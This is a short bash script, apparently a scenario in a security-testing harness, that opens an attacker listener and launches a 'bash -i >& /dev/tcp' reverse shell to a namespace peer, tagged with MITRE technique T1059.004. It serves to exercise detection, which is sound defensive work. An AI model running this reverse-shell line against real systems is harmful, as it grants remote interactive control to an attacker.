#!/usr/bin/env bash
# Reverse shell: `bash -i >& /dev/tcp/PEER/PORT 0>&1`, stdio on a TCP socket to the namespace peer.
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-bash-devtcp T1059.004
scn_attacker_listen 4444
bash -c "exec bash -i >& /dev/tcp/$SCN_PEER/$SCN_PORT 0>&1" 2>/dev/null &
scn_track $!
scn_shell_finish
